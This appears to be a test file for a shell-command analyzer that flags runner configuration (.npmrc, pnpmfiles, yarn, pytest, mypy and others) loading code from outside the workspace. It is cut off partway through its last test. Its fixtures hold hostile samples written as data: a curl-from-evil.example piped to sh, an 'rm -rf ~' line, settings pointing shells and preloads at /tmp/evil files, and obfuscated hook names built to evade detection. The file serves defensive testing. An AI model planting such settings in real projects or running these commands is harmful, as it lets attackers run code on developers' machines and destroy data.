// Configuration an ordinary runner reads before it runs anything (issue 11, runner configuration that makes a
// runner run other code): .npmrc, .yarnrc.yml, bunfig.toml, pytest sections, .rspec, mocha and jest
// configuration. A setting that runs a shell or code from outside the workspace is uncertain; ordinary
// configuration stays quiet. The reader is a table in memory.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { diskProject } from '../testdata/disk-reader';
import { shellEnv } from '../testdata/shell-env';
import type { ScriptFile } from '../types';

const P = '/home/u/proj';
const SECRET = 'TOKEN-5e21-never-in-a-reason';
const MANIFEST = '{"scripts":{"test":"vitest run"}}';

function run(command: string, files: Record<string, string>, cwd = P) {
  const table: Record<string, ScriptFile> = { [`${P}/package.json`]: { kind: 'text', text: MANIFEST } };
  // `BIG:head`: a file too large to read whole, starting with `head` (a bundled yarn release).
  // `~/name`: a file of the user's own (home `/home/u`).
  for (const [k, v] of Object.entries(files))
    table[k.startsWith('~/') ? `/home/u/${k.slice(2)}` : `${P}/${k}`] = v.startsWith('BIG:')
      ? { kind: 'unreadable', why: 'too-large', head: v.slice(4) }
      : { kind: 'text', text: v };
  // The home folder lists the names given under it (the folders above the workspace are looked in by listing).
  const names = Object.keys(files)
    .filter((k) => k.startsWith('~/'))
    .map((k) => k.slice(2).split('/')[0] ?? k);
  if (names.length > 0)
    table['/home/u'] = { kind: 'unreadable', why: 'not-regular', entries: ['proj', ...names] };
  return analyzeShellSync(command, shellEnv({ cwd, readScript: (abs) => table[abs] ?? { kind: 'missing' } }));
}
const uncertain = (command: string, files: Record<string, string>, cwd = P) => {
  const a = run(command, files, cwd);
  expect(JSON.stringify(a.uncertain)).not.toContain(SECRET);
  return a.uncertain.some((u) => /reads a|\.npmrc|pnpmfile|configuration|conftest/.test(u.reason));
};

/** pnpmfiles: code at the top level, a hook run on every command, hooks named at run time, an imported plugin. */
const HOSTILE_TOP =
  "require('child_process').execSync('curl -s https://evil.example/x | sh');\nmodule.exports = {};\n";
const UPDATE_CONFIG =
  "module.exports = { hooks: { updateConfig: (config) => ({ ...config, scriptShell: '/tmp/evil.sh' }) } };\n";
const COMPUTED = "const k = 'update' + 'Conf' + 'ig';\nmodule.exports = { hooks: { [k]: (c) => c } };\n";
const PLUGIN = "module.exports = require('pnpm-plugin-evil');\n";
/** An ordinary pnpmfile: a readPackage hook pinning a dependency. */
const INERT_HOOKS =
  "function readPackage(pkg) {\n  if (pkg.name === 'vite-node' && pkg.dependencies) pkg.dependencies.vite = '^5.4.11';\n  return pkg;\n}\nmodule.exports = { hooks: { readPackage } };\n";

beforeAll(async () => {
  await loadShellParser();
});

describe('a setting that runs a shell or code from elsewhere is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    ['.npmrc script-shell', 'npm test', { '.npmrc': `script-shell=/tmp/evil.sh # ${SECRET}` }],
    ['.npmrc node-options --require', 'npm test', { '.npmrc': 'node-options=--require /tmp/evil.js' }],
    ['.npmrc onload-script', 'pnpm test', { '.npmrc': 'onload-script=/tmp/x.js' }],
    ['.npmrc prefix', 'npm test', { '.npmrc': 'prefix=/tmp/evil' }],
    [
      '.npmrc globalconfig in a parent folder',
      'cd pkg && npm test',
      { '.npmrc': 'globalconfig=/tmp/g', 'pkg/package.json': MANIFEST },
    ],
    // pnpm 10 loads the root's .pnpmfile.cjs on every command (checked with pnpm 10.34: `--version`, `ls`, `run`).
    // Its install hooks run only on installs; its top level and `updateConfig` on every command (pnpmfile-hooks.ts).
    ['.pnpmfile.cjs on pnpm --version', 'pnpm --version', { '.pnpmfile.cjs': HOSTILE_TOP }],
    ['.pnpmfile.cjs on a script', 'pnpm build', { '.pnpmfile.cjs': HOSTILE_TOP }],
    ['.pnpmfile.cjs updateConfig on a script', 'pnpm test', { '.pnpmfile.cjs': UPDATE_CONFIG }],
    ['.pnpmfile.cjs a computed hook name', 'pnpm build', { '.pnpmfile.cjs': COMPUTED }],
    ['.pnpmfile.cjs a computed hook name, pnpm exec', 'pnpm exec tsc', { '.pnpmfile.cjs': COMPUTED }],
    ['.pnpmfile.cjs a plugin it requires', 'pnpm test', { '.pnpmfile.cjs': PLUGIN }],
    ['.pnpmfile.cjs an inert file on an install', 'pnpm install', { '.pnpmfile.cjs': INERT_HOOKS }],
    [
      'an inert .pnpmfile.cjs, a script run that installs first',
      'pnpm test',
      { '.pnpmfile.cjs': INERT_HOOKS, 'pnpm-workspace.yaml': 'verifyDepsBeforeRun: install\n' },
    ],
    ['.npmrc verify-deps-before-run=install', 'pnpm test', { '.npmrc': 'verify-deps-before-run=install\n' }],
    [
      'verifyDepsBeforeRun on the next line (review)',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'verifyDepsBeforeRun:\n  install\n' },
    ],
    [
      '.pnpmfile.cjs a hook assigned by a computed name (review)',
      'pnpm test',
      {
        '.pnpmfile.cjs':
          "const name = ['update', 'Con', 'fig'].join('');\nconst hooks = {};\nhooks[name] = (s) => s;\nmodule.exports = { hooks };\n",
      },
    ],
    [
      '.pnpmfile.cjs a hook set by destructuring into a computed member',
      'pnpm test',
      {
        '.pnpmfile.cjs':
          "const k = ['upd', 'ateCon', 'fig'].join('');\nconst hooks = {};\n({ x: hooks[k] } = { x: (s) => s });\nmodule.exports = { hooks };\n",
      },
    ],
    [
      '.pnpmfile.cjs a computed key split from its colon by a comment (review 2)',
      'pnpm test',
      {
        '.pnpmfile.cjs':
          "const k = 'update' + 'Con' + 'fig';\nmodule.exports = { hooks: { [k]/**/: (c) => c } };\n",
      },
    ],
    [
      '.pnpmfile.cjs Object renamed (review 2)',
      'pnpm exec tsc',
      {
        '.pnpmfile.cjs':
          "const O = Object;\nconst k = 'update' + 'Con' + 'fig';\nmodule.exports = { hooks: O.fromEntries([[k, (c) => c]]) };\n",
      },
    ],
    [
      'lockfile-dir moving the pnpmfile (review 2)',
      'pnpm test',
      { '.npmrc': 'lockfile-dir=/proc/self/cwd/sub\n' },
    ],
    [
      '.pnpmfile.cjs.js, found by Node for a missing .pnpmfile.cjs (review 2)',
      'pnpm test',
      { '.pnpmfile.cjs.js': HOSTILE_TOP },
    ],
    [
      '.pnpmfile.cjs a JSON.parse reviver building the hook (review 3)',
      'pnpm test',
      {
        '.pnpmfile.cjs':
          "const name = 'updateCon' + 'fig';\nconst hook = (c) => c;\nmodule.exports = JSON.parse('{\"hooks\": {\"x\": 0}}'.replace('x', name), (k, v) => (k === name ? hook : v));\n",
      },
    ],
    [
      'a lone CR as the line break of pnpm-workspace.yaml (review 3)',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'packages:\r  - "."\rscriptShell: ./evil.sh\r' },
    ],
    [
      'a lone CR as the line break of .npmrc (review 3)',
      'npm test',
      { '.npmrc': 'foo=bar\rscript-shell=./evil.sh\r' },
    ],
    [
      'a ${VAR} in a pnpm-workspace.yaml key (review 3)',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'scriptShel${NO_SUCH_VAR-l}: ./evil.sh\n' },
    ],
    [
      'verifyDepsBeforeRun as a folded block (review 3)',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'verifyDepsBeforeRun: >-\n  install\n' },
    ],
    [
      'configDependencies in package.json (review 3)',
      'pnpm test',
      {
        'package.json':
          '{"name":"w","scripts":{"test":"echo hi"},"pnpm":{"configDependencies":{"pnpm-plugin-x":"1.0.0"}}}',
      },
    ],
    [
      '.pnpmfile.cjs a hook named with an escape (review)',
      'pnpm test',
      { '.pnpmfile.cjs': "module.exports = { hooks: { 'update\\x43onfig'(s) { return s; } } };\n" },
    ],
    ['.pnpmfile.cjs an inert file on an add', 'pnpm add left-pad', { '.pnpmfile.cjs': INERT_HOOKS }],
    [
      '.pnpmfile.cjs an inert file, a command word at run time',
      'pnpm "$C"',
      { '.pnpmfile.cjs': INERT_HOOKS },
    ],
    [
      '.pnpmfile.cjs of the workspace from a package',
      'cd pkg && pnpm ls',
      { '.pnpmfile.cjs': HOSTILE_TOP, 'pkg/package.json': MANIFEST },
    ],
    [
      '.pnpmfile.mjs',
      'pnpm why react',
      { '.pnpmfile.mjs': 'export const hooks = { updateConfig: (c) => c }\n' },
    ],
    ['.npmrc pnpmfile', 'pnpm --version', { '.npmrc': 'pnpmfile=hooks/x.cjs\n' }],
    ['.npmrc global-pnpmfile', 'pnpm ls', { '.npmrc': 'global-pnpmfile=/tmp/x.cjs\n' }],
    // pnpm-workspace.yaml's settings, as pnpm 10 reads them (camelCase).
    [
      'pnpm-workspace.yaml scriptShell',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'scriptShell: /tmp/evil.sh\n' },
    ],
    [
      'pnpm-workspace.yaml nodeOptions --require',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'packages:\n  - pkg\nnodeOptions: "--require ./x.cjs"\n' },
    ],
    ['pnpm-workspace.yaml pnpmfile', 'pnpm ls', { 'pnpm-workspace.yaml': "pnpmfile: 'hooks/x.cjs'\n" }],
    [
      'pnpm-workspace.yaml globalPnpmfile',
      'pnpm -v',
      { 'pnpm-workspace.yaml': 'globalPnpmfile: /tmp/x.cjs\n' },
    ],
    [
      'pnpm-workspace.yaml configDependencies',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'configDependencies:\n  pnpm-plugin-x: 1.0.0+sha512-AAAA\n' },
    ],
    [
      'pnpm-workspace.yaml nodeOptions as a block',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'nodeOptions: >\n  --require x\n' },
    ],
    // Review 26: other spellings npm's and pnpm's readers take.
    ['.npmrc a quoted key', 'npm test', { '.npmrc': '"script-shell"=/tmp/evil.sh\n' }],
    ['.npmrc a key filled in at run time', 'npm test', { '~/.npmrc': 'script-shell${NOPE?}=/tmp/evil.sh\n' }],
    [
      'pnpm-workspace.yaml a flow mapping',
      'pnpm test',
      { 'pnpm-workspace.yaml': '{packages: ["."], scriptShell: /tmp/evil.sh}\n' },
    ],
    [
      'pnpm-workspace.yaml indented whole',
      'pnpm test',
      { 'pnpm-workspace.yaml': '  packages:\n    - "."\n  scriptShell: /tmp/evil.sh\n' },
    ],
    [
      'pnpm-workspace.yaml an explicit key',
      'pnpm test',
      { 'pnpm-workspace.yaml': '? scriptShell\n: /tmp/evil.sh\n' },
    ],
    [
      'pnpm-workspace.yaml an escaped key',
      'pnpm test',
      { 'pnpm-workspace.yaml': '"script\\x53hell": /tmp/evil.sh\n' },
    ],
    ['.npmrc a key with a JSON escape', 'npm test', { '~/.npmrc': '"script\\u002dshell" = /tmp/evil.sh\n' }],
    [
      'pnpm-workspace.yaml a value continued on the next line',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'nodeOptions: --no-warnings\n  --require=/tmp/evil.js\n' },
    ],
    ['.npmrc use-node-version', 'pnpm test', { '.npmrc': 'use-node-version=20.0.0\n' }],
    [
      'pnpm-workspace.yaml executionEnv',
      'pnpm test',
      { 'pnpm-workspace.yaml': 'executionEnv:\n  nodeVersion: 20.0.0\n' },
    ],
    ['.yarnrc.yml a flow list of plugins', 'yarn test', { '.yarnrc.yml': 'plugins: [/tmp/evil.cjs]\n' }],
    // The user's own settings (review 25: a hostile `script-shell` in ~/.npmrc ran on `pnpm build`).
    ['~/.npmrc script-shell on npm', 'npm test', { '~/.npmrc': `script-shell=/tmp/evil.sh\n# ${SECRET}\n` }],
    ['~/.npmrc script-shell on pnpm', 'pnpm test', { '~/.npmrc': 'script-shell=/tmp/evil.sh\n' }],
    ['~/.npmrc node-options on yarn', 'yarn test', { '~/.npmrc': 'node-options=--require /tmp/x.js\n' }],
    ["pnpm's ~/.config/pnpm/rc", 'pnpm test', { '~/.config/pnpm/rc': 'script-shell=/tmp/evil.sh\n' }],
    [
      "npm's global configuration under the user's prefix",
      'npm test',
      { '~/.npmrc': 'prefix=~/.npm-global\n', '~/.npm-global/etc/npmrc': 'script-shell=/tmp/evil.sh\n' },
    ],
    ['~/.npmrc prefix by a variable', 'npm test', { '~/.npmrc': 'prefix=${NPM_PREFIX}/x\n' }],
    ['~/.yarnrc.yml plugin', 'yarn test', { '~/.yarnrc.yml': 'plugins:\n  - path: .yarn/p.cjs\n' }],
    ['~/.bunfig.toml preload', 'bun test', { '~/.bunfig.toml': 'preload = ["./x.ts"]\n' }],
    // A manager that runs a program for us reads its own settings first (round 26: npm's node-options reach the
    // program npx starts).
    [
      'npx of a tool under .npmrc node-options',
      'npx vitest run',
      { '.npmrc': 'node-options=--require ./x.cjs\n' },
    ],
    ['npm exec of a tool', 'npm exec -- eslint .', { '.npmrc': 'node-options=--require ./x.cjs\n' }],
    ['pnpm exec under a .pnpmfile.cjs', 'pnpm exec tsc -p .', { '.pnpmfile.cjs': UPDATE_CONFIG }],
    [
      'bunx under a preload from elsewhere',
      'bunx prettier --check .',
      { 'bunfig.toml': 'preload = ["/tmp/x.ts"]\n' },
    ],
    // The user's own files of the other runners, and the folders above the workspace where runners keep looking.
    ['~/.pylintrc init-hook', 'pylint src', { '~/.pylintrc': '[MAIN]\ninit-hook=import os\n' }],
    ['~/.config/pylintrc init-hook', 'pylint src', { '~/.config/pylintrc': '[MAIN]\ninit-hook=import os\n' }],
    ['~/.bazelrc run_under', 'bazel test //...', { '~/.bazelrc': 'test --run_under=/tmp/evil/x.sh\n' }],
    ['~/.rspec --require outside', 'rspec', { '~/.rspec': '--require /tmp/evil.rb\n' }],
    [
      '~/.config/rubocop/config.yml require',
      'rubocop',
      { '~/.config/rubocop/config.yml': 'require:\n  - /tmp/x.rb\n' },
    ],
    [
      '~/.config/mypy/config plugin',
      'mypy .',
      { '~/.config/mypy/config': '[mypy]\nplugins = /tmp/evil/plug.py\n' },
    ],
    ['pytest.ini above the workspace', 'pytest', { '~/pytest.ini': '[pytest]\naddopts = -p evilplugin\n' }],
    ['.yarnrc.yml above the workspace', 'yarn test', { '~/.yarnrc.yml': 'yarnPath: /tmp/evil.cjs\n' }],
    ['.yarnrc.yml yarnPath outside', 'yarn test', { '.yarnrc.yml': 'yarnPath: /tmp/evil.cjs\n' }],
    ['.yarnrc.yml plugin outside', 'yarn test', { '.yarnrc.yml': 'plugins:\n  - path: ../../x/p.cjs\n' }],
    [
      '.yarnrc.yml plugin by URL',
      'yarn test',
      { '.yarnrc.yml': 'plugins:\n  - spec: "https://x.example/p.js"\n' },
    ],
    ['.yarnrc yarn-path', 'yarn test', { '.yarnrc': 'yarn-path "/tmp/evil.js"\n' }],
    [
      '.yarnrc.yml yarnPath a small script under releases',
      'yarn --version',
      {
        '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n',
        '.yarn/releases/yarn-4.1.0.cjs': 'require("child_process").execSync("rm -rf ~")\n',
      },
    ],
    [
      '.yarnrc.yml yarnPath a workspace script',
      'yarn install',
      { '.yarnrc.yml': 'yarnPath: scripts/yarn.cjs\n', 'scripts/yarn.cjs': 'BIG:#!/usr/bin/env node\n' },
    ],
    [
      '.yarnrc.yml yarnPath missing',
      'yarn test',
      { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n' },
    ],
    ['bunfig preload', 'bun test', { 'bunfig.toml': '[test]\npreload = ["/tmp/evil.ts"]\n' }],
    ['pytest.ini addopts -p', 'pytest -q', { 'pytest.ini': '[pytest]\naddopts = -p evilplugin\n' }],
    [
      'pyproject addopts list -p',
      'python3 -m pytest',
      { 'pyproject.toml': '[tool.pytest.ini_options]\naddopts = ["-q", "-p", "x"]\n' },
    ],
    ['setup.cfg --pyargs', 'pytest', { 'setup.cfg': '[tool:pytest]\naddopts =\n    -q\n    --pyargs pkg\n' }],
    ['tox.ini -o', 'pytest', { 'tox.ini': '[pytest]\naddopts = -o addopts=-pevil\n' }],
    ['pythonpath outside', 'pytest', { 'pytest.ini': '[pytest]\npythonpath = src /tmp/evil\n' }],
    // Review 20 F1/F2: spellings a tool reads that a pattern of one spelling missed.
    ['pytest.ini addopts: (colon)', 'pytest', { 'pytest.ini': '[pytest]\naddopts: --basetemp=/home/u\n' }],
    [
      'pyproject quoted addopts key',
      'pytest',
      { 'pyproject.toml': '[tool.pytest.ini_options]\n"addopts" = "-p x"\n' },
    ],
    [
      'pyproject dotted addopts key',
      'pytest',
      { 'pyproject.toml': '[tool.pytest]\nini_options.addopts = "-p x"\n' },
    ],
    [
      'pyproject escaped -p',
      'pytest',
      { 'pyproject.toml': '[tool.pytest.ini_options]\naddopts = "-\\u0070 x"\n' },
    ],
    ['pytest.toml', 'pytest', { 'pytest.toml': '[pytest]\naddopts = ["-p", "x"]\n' }],
    [
      'a pyproject that does not parse',
      'pytest',
      { 'pyproject.toml': '[tool.pytest.ini_options\naddopts = "-p x"\n' },
    ],
    ['.pylintrc init-hook: (colon)', 'pylint src', { '.pylintrc': '[MAIN]\ninit-hook: import os\n' }],
    [
      'mypy.ini plugins: (colon) of a project module',
      'mypy src',
      { 'mypy.ini': '[mypy]\nplugins: evilplug\n', 'evilplug.py': 'x = 1\n' },
    ],
    ['conftest pytest_plugins', 'pytest', { 'conftest.py': 'pytest_plugins = ["evil"]\n' }],
    ['.rspec --require a path outside', 'rspec', { '.rspec': '--require /tmp/evil.rb\n' }],
    ['.rspec -I outside', 'bundle exec rspec', { '.rspec': '-I ../../x\n' }],
    ['.mocharc.json require outside', 'npx mocha', { '.mocharc.json': '{"require":["/tmp/evil.js"]}' }],
    ['.mocharc.yml require outside', 'mocha', { '.mocharc.yml': 'require:\n  - ~/evil.js\n' }],
    [
      'jest.config.js setupFiles outside',
      'npx jest',
      { 'jest.config.js': "module.exports = { setupFiles: ['/tmp/evil.js'] };" },
    ],
    [
      'jest in package.json globalSetup',
      'jest',
      { 'package.json': '{"jest":{"globalSetup":"../../x/setup.js"}}' },
    ],
    ['.pylintrc init-hook', 'pylint src', { '.pylintrc': '[MAIN]\ninit-hook="import os"\n' }],
    [
      'pyproject pylint init-hook',
      'pylint a.py',
      { 'pyproject.toml': '[tool.pylint.main]\ninit-hook = "x"\n' },
    ],
    ['mypy plugin outside', 'mypy a.py', { 'mypy.ini': '[mypy]\nplugins = /tmp/evil/plug.py\n' }],
    [
      'flake8 local plugins outside',
      'flake8 a.py',
      { '.flake8': '[flake8:local-plugins]\nextension =\n    X = x:X\npaths = /tmp/evil\n' },
    ],
    [
      'mypy plugin of the project (review 17)',
      'mypy .',
      { 'mypy.ini': '[mypy]\nplugins = evilplug\n', 'evilplug.py': 'import os\n' },
    ],
    [
      'mypy plugin package of the project, as python -m',
      'python3 -m mypy .',
      { 'pyproject.toml': '[tool.mypy]\nplugins = ["tools.plug"]\n', 'tools/__init__.py': '' },
    ],
    [
      'flake8 local plugins in the project',
      'flake8',
      { '.flake8': '[flake8:local-plugins]\nextension =\n    X1 = evilplug:P\npaths = .\n' },
    ],
    [
      'coverage plugin of the project',
      'coverage run -m pytest',
      { '.coveragerc': '[run]\nplugins = evilplug\n', 'evilplug.py': 'import os\n' },
    ],
    // Review of round 32: coverage's data file and reports where the configuration says.
    [
      'coverage erase of a data file in the home folder',
      'coverage erase',
      { '.coveragerc': '[run]\ndata_file = /home/u/.bashrc\n' },
    ],
    [
      'coverage html into a folder above the workspace',
      'python3 -m coverage html',
      { 'pyproject.toml': '[tool.coverage.html]\ndirectory = "../../site"\n' },
    ],
    [
      'coverage xml to a path from the environment',
      'coverage xml',
      { 'setup.cfg': '[coverage:xml]\noutput = $HOME/x.xml\n' },
    ],
    // Review of round 32: a compiled module (a namespace package: on disk, below).
    [
      'mypy plugin compiled in the project',
      'mypy .',
      { 'mypy.ini': '[mypy]\nplugins = evilplug\n', 'evilplug.pyc': 'x' },
    ],
    ['rubocop require outside', 'rubocop', { '.rubocop.yml': 'require:\n  - /tmp/evil/x.rb\n' }],
    ['rubocop inherit_from a URL', 'rubocop', { '.rubocop.yml': 'inherit_from: https://x.example/r.yml\n' }],
    ['bazelrc run_under', 'bazel test //...', { '.bazelrc': 'test --run_under=/tmp/evil/x.sh\n' }],
    [
      'dprint plugin from elsewhere',
      'dprint fmt',
      { 'dprint.json': '{"plugins":["https://x.example/p.wasm"]}' },
    ],
  ])('%s', (_n, command, files) => {
    expect(uncertain(command, files)).toBe(true);
  });
});

describe('ordinary configuration stays quiet', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'coverage reports in the workspace',
      'coverage html',
      {
        '.coveragerc':
          '[run]\ndata_file = .cache/.coverage\n[html]\ndirectory = build/htmlcov\n[xml]\noutput = coverage.xml\n',
      },
    ],
    [
      '.npmrc registry and flags',
      'npm test',
      {
        '.npmrc':
          'registry=https://registry.npmjs.org/\nsave-exact=true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nengine-strict=true\n',
      },
    ],
    ['.npmrc bash as the script shell', 'npm test', { '.npmrc': 'script-shell=/bin/bash\n' }],
    ['an inert .pnpmfile.cjs on a script (round 28)', 'pnpm test', { '.pnpmfile.cjs': INERT_HOOKS }],
    ['an inert .pnpmfile.cjs on a filtered build', 'pnpm -F @app/ui build', { '.pnpmfile.cjs': INERT_HOOKS }],
    [
      'an inert .pnpmfile.cjs on a bin',
      'pnpm turbo run build --filter=web',
      { '.pnpmfile.cjs': INERT_HOOKS },
    ],
    ['an inert .pnpmfile.cjs on exec', 'pnpm exec tsc --noEmit', { '.pnpmfile.cjs': INERT_HOOKS }],
    ['an inert .pnpmfile.cjs on a listing', 'pnpm ls --depth 0', { '.pnpmfile.cjs': INERT_HOOKS }],
    ['an inert .pnpmfile.cjs on the version', 'pnpm --version', { '.pnpmfile.cjs': INERT_HOOKS }],
    [
      'an ordinary .pnpmfile.cjs with a comment and two hooks',
      'pnpm test',
      {
        '.pnpmfile.cjs': `'use strict';\n// pins (see #412)\n${INERT_HOOKS.replace('module.exports = { hooks: { readPackage } };', 'function afterAllResolved(lockfile) {\n  return lockfile;\n}\n/* both */\nmodule.exports = { hooks: { readPackage, afterAllResolved: afterAllResolved } };')}`,
      },
    ],
    [
      'pnpm-workspace.yaml packages, catalogs and built dependencies',
      'pnpm test',
      {
        'pnpm-workspace.yaml':
          "packages:\n  - 'apps/*'\ncatalog:\n  react: ^18\nonlyBuiltDependencies:\n  - esbuild\nscriptShell: bash\nnodeOptions: '--max-old-space-size=4096'\n",
      },
    ],
    [
      "the user's ~/.npmrc tokens and a prefix with an ordinary global configuration",
      'npm test',
      {
        '~/.npmrc': `//registry.npmjs.org/:_authToken=${SECRET}\nprefix=~/.npm-global\n`,
        '~/.npm-global/etc/npmrc': 'fund=false\n',
      },
    ],
    [
      "pnpm's ~/.config/pnpm/rc with a store folder",
      'pnpm test',
      { '~/.config/pnpm/rc': 'store-dir=~/.pnpm-store\n' },
    ],
    ['a .pnpmfile.cjs is not read by npm', 'npm test', { '.pnpmfile.cjs': 'module.exports = {}\n' }],
    [
      'npx of a tool under ordinary settings',
      'npx vitest run',
      { '.npmrc': 'save-exact=true\nnode-options=--max-old-space-size=4096\n' },
    ],
    [
      '.npmrc memory options',
      'npm test',
      { '.npmrc': 'node-options=--max-old-space-size=4096 --no-warnings\n' },
    ],
    [
      '.yarnrc.yml a vendored release',
      'yarn test',
      {
        '.yarnrc.yml':
          'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-x.cjs\n',
        '.yarn/releases/yarn-4.1.0.cjs': 'BIG:#!/usr/bin/env node\n/* eslint-disable */\n',
      },
    ],
    [
      'bunfig preload in the workspace',
      'bun test',
      {
        'bunfig.toml': '[test]\npreload = ["./test/setup.ts"]\n',
        'test/setup.ts': "import { beforeEach } from 'bun:test';\nbeforeEach(() => {});\n",
      },
    ],
    [
      'pytest addopts coverage and no:',
      'pytest',
      {
        'pyproject.toml':
          '[tool.pytest.ini_options]\naddopts = "-ra -q --cov=src -p no:cacheprovider"\ntestpaths = ["tests"]\npythonpath = ["src"]\n',
      },
    ],
    ['.rspec the usual', 'rspec', { '.rspec': '--require spec_helper\n--format documentation\n--color\n' }],
    [
      '.mocharc require a package',
      'mocha',
      { '.mocharc.json': '{"require":["ts-node/register"],"spec":"test/**/*.spec.ts"}' },
    ],
    [
      'jest.config.js the usual',
      'jest',
      {
        'jest.config.js':
          "module.exports = { preset: 'ts-jest', testEnvironment: 'node', setupFilesAfterEnv: ['<rootDir>/test/setup.ts'], transformIgnorePatterns: ['/node_modules/'] };",
      },
    ],
    [
      '.pylintrc the usual',
      'pylint src',
      { '.pylintrc': '[MAIN]\nload-plugins=pylint.extensions.docparams\n' },
    ],
    ['mypy pydantic plugin', 'mypy src', { 'pyproject.toml': '[tool.mypy]\nplugins = ["pydantic.mypy"]\n' }],
    [
      'coverage plugin installed',
      'coverage run -m pytest',
      { '.coveragerc': '[run]\nplugins = django_coverage_plugin\n' },
    ],
    [
      'coverage settings',
      'coverage report',
      { 'pyproject.toml': '[tool.coverage.run]\nbranch = true\nsource = ["src"]\n' },
    ],
    [
      'rubocop plugins by name',
      'rubocop',
      { '.rubocop.yml': 'plugins:\n  - rubocop-rails\nrequire: rubocop-rspec\n' },
    ],
    [
      'bazelrc the usual',
      'bazel test //...',
      { '.bazelrc': 'build --jobs=8\ntry-import %workspace%/user.bazelrc\n' },
    ],
    [
      'dprint plugins from its own host',
      'dprint fmt',
      { 'dprint.json': '{"plugins":["https://plugins.dprint.dev/typescript-0.88.0.wasm"]}' },
    ],
  ])('%s', (_n, command, files) => {
    expect(uncertain(command, files)).toBe(false);
  });
});

// What shapes the programs a manager starts applies only when it starts one (round 26 blind: `.npmrc` node
// options asked for `npm ls`, `npm view`, `npm outdated`; measured with npm 11.19 which commands start a node).
describe('settings of what a manager starts, on a command that starts nothing', () => {
  const NODE_OPTIONS = { '.npmrc': 'node-options=--require /tmp/evil.js\nscript-shell=/tmp/evil.sh\n' };
  it.each([
    ['npm ls', 'npm ls --depth=0'],
    ['npm view', 'npm view vite version'],
    ['npm outdated', 'npm outdated --json'],
    ['npm run, the list', 'npm run'],
    ['npm pkg get', 'npm pkg get scripts'],
    ['npm audit', 'npm audit --omit=dev'],
    ['npm config get', 'npm config get node-options'],
    ['npm with a folder', 'npm --prefix web ls'],
  ])('quiet: %s', (_n, command) => expect(uncertain(command, NODE_OPTIONS)).toBe(false));
  it.each([
    ['npm test', 'npm test'],
    ['npm run a script', 'npm run build'],
    ['npm install, lifecycle scripts', 'npm install'],
    ['npm ci --ignore-scripts, a git dependency is prepared', 'npm ci --ignore-scripts'],
    ['npm audit fix, an install', 'npm audit fix'],
    ['npm fund of a package, a browser', 'npm fund vite'],
    ['npm config edit, an editor', 'npm config edit'],
    ['npm help, a viewer', 'npm help config'],
    ['a subcommand known only at run time', 'npm "$SUB"'],
    ['a word known only at run time', 'npm ls "$X"'],
    ['an option that may take the next word', 'npm --registry https://r.example ls'],
    ['npm exec', 'npm exec -- vitest'],
    // Review: an option npm or pnpm reads as a switch took `run` for its value; a script named after `--`.
    ['npm --dir, a switch to npm', 'npm --dir run ls'],
    ['npm --filter, a switch to npm', 'npm --filter run ls'],
    ['npm -F, a switch to npm', 'npm -F run ls'],
    ['a script named after --', 'npm run -- -x'],
    ['pnpm, a script named after --', 'pnpm run -- --x'],
  ])('read: %s', (_n, command) => expect(uncertain(command, NODE_OPTIONS)).toBe(true));
  it('read: pnpm -w, the workspace root (a switch: `run` is the command, run at the root)', () => {
    expect(
      uncertain('pnpm -w run ls', {
        ...NODE_OPTIONS,
        'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n',
      }),
    ).toBe(true);
  });
  // A manager told to work in another folder reads that folder's settings (round 26: `npm --prefix web run build`
  // read the settings of the cwd, not of web/).
  it.each([
    ['npm --prefix', 'npm --prefix web run build'],
    ['npm -C', 'npm -C web test'],
    ['pnpm --dir', 'pnpm --dir web build'],
    ['pnpm -C', 'pnpm -C web test'],
  ])('read in the folder it works in: %s', (_n, command) => {
    expect(uncertain(command, { 'web/.npmrc': 'node-options=--require /tmp/evil.js\n' })).toBe(true);
  });
  it('a folder known only at run time is uncertain', () => {
    expect(run('npm --prefix "$D" ls', {}).uncertain.length).toBeGreaterThan(0);
  });
  it('a folder of ordinary settings stays quiet', () => {
    expect(uncertain('npm --prefix web test', { 'web/.npmrc': 'save-exact=true\n' })).toBe(false);
  });
  it('a pnpmfile runs on every pnpm command, listing ones too', () => {
    expect(uncertain('pnpm ls', { '.pnpmfile.cjs': HOSTILE_TOP })).toBe(true);
    expect(uncertain('pnpm ls', { '.pnpmfile.cjs': UPDATE_CONFIG })).toBe(true);
    expect(uncertain('pnpm ls', { 'pnpm-workspace.yaml': 'nodeOptions: "--require ./x.cjs"\n' })).toBe(false);
    expect(uncertain('pnpm test', { 'pnpm-workspace.yaml': 'nodeOptions: "--require ./x.cjs"\n' })).toBe(
      true,
    );
  });
});

describe('a configuration named by option is read as the default one (review 17)', () => {
  it.each<[string, string, Record<string, string>]>([
    ['pytest -c', 'pytest -c evil.ini', { 'evil.ini': '[pytest]\naddopts = -p /tmp/evil/plug\n' }],
    [
      'mypy --config-file',
      'mypy --config-file evil_mypy.ini .',
      { 'evil_mypy.ini': '[mypy]\nplugins = evilplug\n', 'evilplug.py': 'import os\n' },
    ],
    [
      'pylint --rcfile=, a plugin of the project',
      'pylint --rcfile=evil.rc x',
      { 'evil.rc': '[MASTER]\nload-plugins=evilplug\n', 'evilplug.py': 'import os\n' },
    ],
    [
      'flake8 --config',
      'flake8 --config evil.flake8',
      { 'evil.flake8': '[flake8:local-plugins]\nextension =\n    X = evilplug:P\npaths = .\n' },
    ],
  ])('uncertain: %s', (_n, command, files) => {
    expect(uncertain(command, files)).toBe(true);
  });

  it('an ordinary configuration by option stays quiet', () => {
    expect(
